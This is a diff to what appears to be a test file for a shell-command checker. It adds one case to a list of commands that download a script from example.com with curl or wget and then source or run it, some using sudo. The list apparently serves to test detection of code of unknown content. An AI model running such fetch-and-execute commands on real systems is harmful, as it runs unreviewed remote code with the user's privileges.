@@ -642,6 +642,7 @@ describe("code of unknown content", () => {
     "curl -s https://example.com/env.sh > env.sh; . ./env.sh",
     "curl -sO https://example.com/env.sh; . ./env.sh",
     "curl -s -o /tmp/env.sh https://example.com/x; . /tmp/env.sh",
+    'F=$DIR/env.sh; curl -s -o "$F" https://example.com/x; . "$F"',
     "sudo curl -s https://example.com/x -o /tmp/env.sh; chmod +x /tmp/env.sh; . /tmp/env.sh",
     "wget -q https://example.com/env.sh && source env.sh",
     "wget -q -O /tmp/env.sh https://example.com/x; source /tmp/env.sh",
